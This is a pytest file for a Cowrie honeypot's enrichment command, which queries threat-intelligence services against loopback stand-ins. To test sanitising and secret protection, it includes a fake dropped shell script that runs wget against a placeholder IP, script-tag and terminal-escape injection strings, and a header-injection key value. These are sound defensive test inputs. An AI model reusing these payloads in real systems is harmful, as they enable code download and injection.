"""`cowrie-assets enrich` on the sample, against services that are played over loopback."""

import json
import os
import re
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import inspect, text

from cowrie_assets.clock import US_PER_DAY, now_us
from cowrie_assets.enrichment.answers import Kind
from cowrie_assets.enrichment.settings import SERVICES
from cowrie_assets.enrichment.wanted import Wanted
from cowrie_assets.enrichment.working_off import Timing, work_off
from cowrie_assets.reports.files import write_reports
from cowrie_assets.reports.periods import REPORT_TYPES, period_of
from cowrie_assets.reports.staleness import stale_periods
from cowrie_assets.settings import Settings
from cowrie_assets.warehouse.engine import Warehouse
from cowrie_assets_tests.cli.conftest import Cowrie
from cowrie_assets_tests.enrichment.mmdb import write_mmdb
from cowrie_assets_tests.enrichment.playing import SECRET, SECRET_NAME, Clock, Player, Way, access_to, played

HTTP_SERVICES = [name.upper() for name in SERVICES if name != "cymru"]

_DAYS = "SELECT DISTINCT SUBSTR(first_event_at, 1, 10) FROM session_summaries"


@pytest.fixture
def player(monkeypatch: pytest.MonkeyPatch) -> Iterator[Player]:
    """All services of HTTP, switched on."""
    monkeypatch.setenv(SECRET_NAME, SECRET)
    with played() as server:
        for name in HTTP_SERVICES:
            monkeypatch.setenv(f"COWRIE_{name}_URL", server.url)
            monkeypatch.setenv(f"COWRIE_{name}_KEY", f"env:{SECRET_NAME}")
            monkeypatch.setenv(f"COWRIE_{name}_PER_MINUTE", "100000")
        monkeypatch.setenv("COWRIE_HIBP", "on")
        monkeypatch.setenv("COWRIE_DSHIELD_CONTACT", "soc@example.org")
        yield server


@pytest.fixture
def virustotal(monkeypatch: pytest.MonkeyPatch) -> Iterator[Player]:
    """VirusTotal alone."""
    monkeypatch.setenv(SECRET_NAME, SECRET)
    with played() as server:
        monkeypatch.setenv("COWRIE_VIRUSTOTAL_URL", server.url)
        monkeypatch.setenv("COWRIE_VIRUSTOTAL_KEY", f"env:{SECRET_NAME}")
        monkeypatch.setenv("COWRIE_VIRUSTOTAL_PER_MINUTE", "100000")
        yield server


def test_nothing_is_asked_that_is_not_configured(ingested: Cowrie, monkeypatch: pytest.MonkeyPatch) -> None:
    ran = ingested("enrich")
    assert (ran.code, ran.out) == (1, "")
    assert ran.err == "Error: no service is asked: `cowrie-assets enrich status` says what each of them needs\n"
    status = ingested("enrich", "status")
    assert status.code == 0
    assert status.out.splitlines()[0] == "VirusTotal: off (COWRIE_VIRUSTOTAL_KEY is not set)"
    assert "Team Cymru: off (COWRIE_CYMRU=on switches it on)" in status.out
    assert [each["on"] for each in ingested("enrich", "status", "--format", "json").json["services"]] == [False] * 10
    monkeypatch.setenv("COWRIE_SPUR", "on")
    assert "COWRIE_SPUR is on, and COWRIE_SPUR_KEY is not set" in ingested("doctor").out
    monkeypatch.delenv("COWRIE_SPUR")
    named = ingested("enrich", "--service", "dshield")
    assert named.err == "Error: DShield is not asked: COWRIE_DSHIELD_CONTACT is not set\n"


EMPTY = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


@pytest.mark.usefixtures("one_day")
def test_what_could_not_be_done_ends_with_one_and_a_sentence(
    ingested: Cowrie, virustotal: Player, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("cowrie_assets.enrichment.working_off.ATTEMPTS", 1)
    one, two = "ab" * 32, "cd" * 32

    def says(code: int, sentence: str, *arguments: str) -> None:
        ran = ingested("enrich", *arguments)
        assert (ran.code, sentence in ran.out + ran.err) == (code, True), ran.out + ran.err

    says(1, "no service that is asked takes addresses", "8.8.8.8")
    says(1, "no service that is asked takes addresses", "--service", "virustotal", "8.8.8.8")
    says(2, "mmdb is not asked about a VALUE", "--service", "mmdb", one)
    says(1, "lists: COWRIE_ADDRESS_LISTS is not set", "--service", "lists")
    says(1, "8.8.8.8 is not asked about: no service that is asked takes addresses", one, "8.8.8.8")
    says(1, "10.1.2.3 is not asked about: no public address", one, "10.1.2.3")
    says(1, f"{EMPTY} is not asked about: a file that holds next to nothing", EMPTY)
    says(0, "VirusTotal: nothing was due", one)
    virustotal.always = Way(400)
    says(1, f"{two}: no answer of VirusTotal: it answered 400", two)
    says(1, "VirusTotal answered 400", "--limit", "2")
    virustotal.always = Way(403)
    says(1, "VirusTotal does not take the key (403)")
    says(1, "VirusTotal is left alone until 20")
    virustotal.always = None
    says(0, "1 answered; asked although it was to be left alone until 20", two)
    assert ingested("enrich", "--service", "virustotal").code == 0
    monkeypatch.setenv("COWRIE_ENRICHMENT", "off")
    says(0, "COWRIE_ENRICHMENT is off: nothing is asked")
    says(1, "COWRIE_ENRICHMENT is off", one)
    says(1, "COWRIE_ENRICHMENT is off", "--service", "lists")
    monkeypatch.setenv("COWRIE_ENRICHMENT", "maybe")
    says(1, "COWRIE_ENRICHMENT must be on or off")


class KilledError(BaseException):
    """A process that ends where it stands."""


@pytest.mark.usefixtures("one_day")
def test_status_tells_all_that_waits(ingested: Cowrie, virustotal: Player, sample_settings: Settings) -> None:
    new = ingested("enrich", "status").out
    assert "5 days to look through for what is new" in new
    assert "nothing waits" not in new

    def now() -> int:
        if virustotal.calls:
            raise KilledError
        return now_us()

    with Warehouse.open(sample_settings.database_url) as warehouse, pytest.raises(KilledError):
        access = access_to(virustotal.url, "virustotal")
        work_off(warehouse, [access], Wanted(named={Kind.FILE: ["ab" * 32]}), timing=Timing(now))
    assert "  1 asked about now, due again within ten minutes" in ingested("enrich", "status").out
    assert ingested("enrich", "status", "--format", "json").json["services"][0]["being_asked"] == 1
    assert ingested("enrich", "--service", "virustotal").code == 0


def test_the_help_shows_what_the_default_takes(cowrie: Cowrie) -> None:
    shown = cowrie("enrich", "--help").out
    assert shown.index("[VALUE]") < shown.index("--service") < shown.index("--refresh") < shown.index("Commands:")


@pytest.mark.usefixtures("one_day")
def test_a_run_tells_what_came_of_it(ingested: Cowrie, player: Player, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COWRIE_VIRUSTOTAL_PER_DAY", "2")
    planned = ingested("enrich", "--service", "virustotal", "--dry-run")
    assert planned.code == 0
    assert re.match(r"virustotal: would be asked about \d+ values; 2 would be skipped\n", planned.out)
    assert player.calls == []
    ran = ingested("enrich", "--service", "virustotal")
    assert (ran.code, len(player.calls)) == (0, 1)
    assert ran.out.startswith("VirusTotal: 1 answered, 2 skipped; the day's budget is used up until 20")
    assert " wait, done by 20" in ran.out
    virustotal = ingested("enrich", "status", "--format", "json").json["services"][0]
    assert (virustotal["day"]["used"], virustotal["day"]["left"], virustotal["waits_for"]) == (1, 0, "day")
    assert virustotal["backlog"] > 0
    monkeypatch.setenv("COWRIE_VIRUSTOTAL_PER_DAY", "200")
    named = ingested("enrich", "--service", "virustotal", "ab" * 32)
    assert named.code == 0
    assert "trojan.mirai/gafgyt  41 of 63" in named.out
    assert ingested("enrich", "not-a-hash").code == 2
    assert ingested("enrich", "--service", "nobody").code == 2


def test_all_services_on_the_sample(ingested: Cowrie, player: Player) -> None:
    ran = ingested("enrich")
    assert (ran.code, ran.out.count("\n")) == (0, len(HTTP_SERVICES)), ran.err
    assert ingested("validate").code == 0
    made = len(player.calls)
    again = ingested("enrich")
    assert (again.code, len(player.calls)) == (0, made)


def test_a_week_of_answers_reaches_the_reports_concerned_and_no_other(
    ingested: Cowrie, player: Player, sample_settings: Settings
) -> None:
    """A file of one day becomes known, and known as malicious, day after day."""
    folder = sample_settings.report_dir
    with Warehouse.open(sample_settings.database_url) as warehouse:
        with warehouse.read() as connection:
            seen = (
                "SELECT MIN(session_day) AS day, MIN(shasum) AS shasum FROM ("
                "SELECT DISTINCT shasum, SUBSTR(first_seen, 1, 10) AS session_day FROM files) AS f "
                "GROUP BY shasum HAVING COUNT(*) = 1 ORDER BY shasum LIMIT 1"
            )
            day, shasum = connection.execute(text(seen)).one()
            days = [date.fromisoformat(each) for each in connection.execute(text(_DAYS)).scalars()]
        periods = {period_of(kind, each) for kind in REPORT_TYPES for each in days}
        for period in periods:
            write_reports(warehouse, period, folder, formats=["json"])
        before = {file: file.read_bytes() for file in folder.rglob("*.json")}
        clock = Clock(now_us() - 8 * US_PER_DAY)
        player.unknown.add(shasum)
        access = access_to(player.url, "virustotal")
        for step in range(7):
            if step == 2:
                player.unknown.clear()
                player.known[shasum] = {"last_analysis_stats": {"malicious": 0, "undetected": 60}}
            if step == 4:
                player.known[shasum] = {}
            work_off(warehouse, [access], Wanted(named={Kind.FILE: [shasum]}, refresh=True), timing=clock.timing)
            clock.us += US_PER_DAY
        assert len(player.calls) == 7
        with warehouse.read() as connection:
            stale = {period for kind in REPORT_TYPES for period in stale_periods(connection, kind, now=now_us())}
        assert stale == {period_of(kind, date.fromisoformat(day)) for kind in REPORT_TYPES}
        for period in stale:
            write_reports(warehouse, period, folder, formats=["json"])
    changed = {file.parent.name for file, content in before.items() if file.read_bytes() != content}
    assert changed == {period.label for period in stale}
    document = json.loads((folder / "daily" / day / "aggregate.json").read_text())
    assert document["enrichments"]["files"]["malicious"] == 1
    assert ingested("validate").code == 0


@pytest.mark.parametrize(
    "always",
    [
        Way(401, body=f"no key {SECRET}".encode(), headers={"X-Key": SECRET}),
        Way(200, body=json.dumps({"data": {"attributes": {"names": [SECRET]}}, "ip": {"asname": SECRET}}).encode()),
        Way(302, headers={"Location": f"https://example.org/{SECRET}"}),
        Way(500, body=SECRET.encode()),
        Way(200, body=b"<script>alert(1)</script>\x1b[31m" + SECRET.encode()),
    ],
    ids=["refused", "repeated", "redirected", "failed", "no JSON"],
)
def test_no_secret_and_no_text_of_a_service_is_shown(
    ingested: Cowrie, player: Player, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, always: Way
) -> None:
    """Not on a screen, in a status, or in any table."""
    monkeypatch.setattr("cowrie_assets.enrichment.working_off.ATTEMPTS", 1)
    player.always = always
    ran = ingested("enrich", "--limit", "1")
    shown = ran.out + ran.err + ingested("enrich", "status").out + ingested("enrich", "status", "--format", "json").out
    shown += ingested("status").out + ingested("doctor").out
    assert SECRET not in shown
    assert "script" not in shown
    assert "\x1b" not in shown
    with Warehouse.open(f"sqlite:///{tmp_path / 'warehouse.db'}") as warehouse, warehouse.read() as connection:
        for table in inspect(connection).get_table_names():
            rows = connection.execute(text(f"SELECT * FROM {table}")).all()
            assert SECRET not in str(rows), table
            assert SECRET.encode() not in b"".join(each for row in rows for each in row if isinstance(each, bytes))


def test_what_a_service_says_is_printed_harmless(ingested: Cowrie, player: Player) -> None:
    label = "mirai\x1b[2J\u202e\r\n<script>alert(1)</script>"
    player.known["ab" * 32] = {"popular_threat_classification": {"suggested_threat_label": label}}
    ran = ingested("enrich", "--service", "virustotal", "ab" * 32)
    assert ran.code == 0
    assert "mirai\\x1b[2J\\u202e\\r\\n<script>" in ran.out
    assert not {"\x1b", "\u202e", "\r"} & set(ran.out)


def test_lists_on_this_machine_are_matched(
    ingested: Cowrie, sample_settings: Settings, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    file = tmp_path / "everything.netset"
    file.write_text("# all\n0.0.0.0/1\n128.0.0.0/1\nnonsense\n")
    monkeypatch.setenv("COWRIE_ADDRESS_LISTS", f"everything=scanner:{file}")
    planned = ingested("enrich", "--dry-run")
    assert (planned.code, planned.out) == (0, "lists: would match all addresses\n")
    ran = ingested("enrich")
    assert ran.code == 0
    assert ran.out.startswith("lists: ")
    assert (ingested("enrich").out, ingested("enrich", "--service", "lists").code) == ("", 0)
    assert "lists everything (scanner): 2 entries, 1 line passed over, of 20" in ingested("enrich", "status").out
    (source,) = ingested("enrich", "status", "--format", "json").json["sources"]
    assert (source["name"], source["entries"], source["stale"]) == ("everything", 2, False)
    os.utime(file, (4e9, 4e9))
    with Warehouse.connect(sample_settings.database_url) as warehouse, warehouse.write() as connection:
        connection.execute(text("UPDATE address_lists SET written_at = 4000000000000000"))
    assert "of 2096-10-02T07:06:40Z, which is to come" in ingested("enrich", "status").out
    assert "everything says that it is of 2096-10-02, which is to come" in ingested("doctor").out
    file.unlink()
    gone = ingested("enrich")
    assert (gone.code, "everything.netset" in gone.err) == (1, True)


@pytest.mark.usefixtures("one_day")
def test_a_mistake_in_the_lists_stops_nothing_else(
    ingested: Cowrie, virustotal: Player, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    (tmp_path / "all").write_text("0.0.0.0/1\n128.0.0.0/1\n")
    file = tmp_path / "lists.toml"
    file.write_text('[[list]]\nname = "all"\nkind = "tor"\npath = "all"\n')
    monkeypatch.setenv("COWRIE_ADDRESS_LISTS", str(file))
    assert ingested("enrich", "--service", "lists").code == 0
    before = ingested("query", "SELECT count(*) AS n FROM address_tags", "--format", "json").json["rows"]
    file.write_text('[[list]]\nname = "all"\nkind = "tro"\npath = "all"\n')
    places = write_mmdb(tmp_path / "places.mmdb", {"0.0.0.0/1": {"country": "NL"}})
    monkeypatch.setenv("COWRIE_MMDB", str(places))
    ran = ingested("enrich", "--limit", "1")
    assert (ran.code, len(virustotal.calls)) == (1, 1)
    assert ran.out.startswith("mmdb: ")
    sentence = f"COWRIE_ADDRESS_LISTS {file}: [[list]] number 1: kind must be one of scanner, "
    assert f"lists: {sentence}" in ran.err
    assert before[0]["n"] > 0
    assert ingested("query", "SELECT count(*) AS n FROM address_tags", "--format", "json").json["rows"] == before
    status = ingested("enrich", "status")
    assert (status.code, sentence in status.err) == (1, True)
    assert f"error    enrichment    {sentence}" in ingested("doctor").out
    assert ingested("enrich", "--service", "virustotal", "--limit", "1").code == 0


def test_what_a_source_said_leaves_with_the_last_setting_that_names_one(
    ingested: Cowrie, sample_settings: Settings, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    (tmp_path / "left").mkdir()
    (tmp_path / "left" / "a").write_bytes(b"x")
    (tmp_path / "everything").write_text("0.0.0.0/1\n128.0.0.0/1\n")
    places = {"0.0.0.0/1": {"country": "NL"}, "128.0.0.0/1": {"country": "DE"}}
    monkeypatch.setenv("COWRIE_MMDB", str(write_mmdb(tmp_path / "places.mmdb", places)))
    monkeypatch.setenv("COWRIE_ADDRESS_LISTS", f"everything=scanner:{tmp_path / 'everything'}")
    monkeypatch.setenv("COWRIE_DOWNLOADS_DIR", str(tmp_path / "left"))
    assert ingested("enrich").code == 0
    tables = ("place_facts", "tag_facts", "downloaded_artefacts")

    def numbers() -> list[int]:
        with Warehouse.connect(sample_settings.database_url) as warehouse, warehouse.read() as connection:
            return [connection.execute(text(f"SELECT COUNT(*) FROM {table}")).scalar_one() for table in tables]

    assert all(numbers())
    for name in ("COWRIE_MMDB", "COWRIE_ADDRESS_LISTS", "COWRIE_DOWNLOADS_DIR"):
        monkeypatch.delenv(name)
    told = ingested("doctor").out
    assert "COWRIE_MMDB is not set any more, and what its files said of addresses stands" in told
    assert f"the downloads' folder {tmp_path / 'left'} is not configured any more" in told
    assert "would take away" in ingested("enrich", "--dry-run").out
    assert all(numbers())
    ran = ingested("enrich")
    assert ran.code == 0
    assert [line.partition(" of ")[0] for line in ran.out.splitlines()] == [
        "mmdb: no file is configured any more, and what they said",
        "lists: no file is configured any more, and what they said",
        "downloads: 1 folder is no longer configured, and their files are listed no more",
    ]
    assert numbers() == [0, 0, 0]
    assert ingested("enrich").code == 1


def test_what_cannot_be_used_is_told_by_its_reference_or_path_alone(
    ingested: Cowrie, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    os.mkfifo(tmp_path / "pipe.mmdb")
    monkeypatch.setenv("COWRIE_VIRUSTOTAL_KEY", "env:NOT_THERE")
    monkeypatch.setenv("COWRIE_URLHAUS_KEY", "op://vault/urlhaus/key")
    monkeypatch.setenv("PATH", str(tmp_path))
    damaged = write_mmdb(tmp_path / "damaged.mmdb", {"0.0.0.0/1": {"country": "NL"}, "128.0.0.0/1": {"asn": 1}})
    damaged.write_bytes(b"\xff" * 512 + damaged.read_bytes()[512:])  # its tree; what it says of itself is good
    (tmp_path / "empty").write_bytes(b"\n")
    monkeypatch.setenv("COWRIE_MMDB", f"{tmp_path / 'pipe.mmdb'},{damaged}")
    monkeypatch.setenv("COWRIE_ADDRESS_LISTS", f"none=tor:{tmp_path / 'none'},empty=tor:{tmp_path / 'empty'}")
    monkeypatch.setenv("COWRIE_DOWNLOADS_DIR", str(tmp_path / "nowhere"))
    sentences = [
        "VirusTotal cannot be asked: COWRIE_VIRUSTOTAL_KEY: env:NOT_THERE: the environment variable NOT_THERE is not "
        "set",
        "URLhaus cannot be asked: COWRIE_URLHAUS_KEY: op://vault/urlhaus/key needs the program 'op', which is not on "
        "PATH: install it",
        f"{tmp_path / 'pipe.mmdb'} cannot be used: it is no file",
        f"{damaged} cannot be used: it is damaged (InvalidDatabaseError)",
        f"{tmp_path / 'none'} cannot be used: No such file or directory",
        f"{tmp_path / 'empty'} cannot be used: it is empty",
        f"{tmp_path / 'nowhere'} cannot be used: No such file or directory",
    ]
    status = ingested("enrich", "status")
    assert status.code == 1
    assert status.err.splitlines()[:-1] == sentences
    shown = ingested("enrich", "status", "--format", "json")
    assert (shown.code, json.loads(shown.out)["faults"]) == (1, sentences)
    looked = ingested("doctor")
    assert looked.code == 1
    for sentence in sentences:
        assert f"error    enrichment    {sentence}\n" in looked.out
    monkeypatch.setenv("COWRIE_ENRICHMENT", "off")
    assert (ingested("enrich", "status").code, "enrichment" in ingested("doctor").out) == (0, False)


def test_what_attackers_left_is_looked_into(ingested: Cowrie, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    folder = tmp_path / "left"
    folder.mkdir()
    (folder / ("ab" * 32)).write_bytes(b"#!/bin/sh\nwget http://192.0.2.1/x\n")
    monkeypatch.setenv("COWRIE_DOWNLOADS_DIR", str(folder))
    assert ingested("enrich", "--dry-run").out == "downloads: would look into 1 folder\n"
    assert ingested("enrich").out == "downloads: 1 file, 1 examined\n"
    assert ingested("enrich", "--service", "downloads").out == "downloads: 1 file, 0 examined\n"


def test_a_key_that_is_missing_or_no_reference_is_told_by_name_only(
    ingested: Cowrie, player: Player, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COWRIE_VIRUSTOTAL_KEY", "env:NOT_THERE")
    ran = ingested("enrich", "--service", "virustotal")
    assert ran.code == 1
    assert (
        "VirusTotal is not asked: COWRIE_VIRUSTOTAL_KEY: env:NOT_THERE: the environment variable NOT_THERE is not set"
        in ran.err
    )
    monkeypatch.setenv("COWRIE_VIRUSTOTAL_KEY", SECRET)
    ran = ingested("enrich", "--service", "virustotal")
    assert ran.code == 1
    assert "COWRIE_VIRUSTOTAL_KEY must be a reference to the secret" in ran.err
    assert SECRET not in ran.err
    monkeypatch.setenv("COWRIE_VIRUSTOTAL_KEY", f"env:{SECRET_NAME}")
    monkeypatch.setenv(SECRET_NAME, f"{SECRET}\r\nX-Evil: 1")
    ran = ingested("enrich", "--service", "virustotal")
    assert "cannot stand in a header" in ran.err
    assert SECRET not in ran.err
    assert player.calls == []
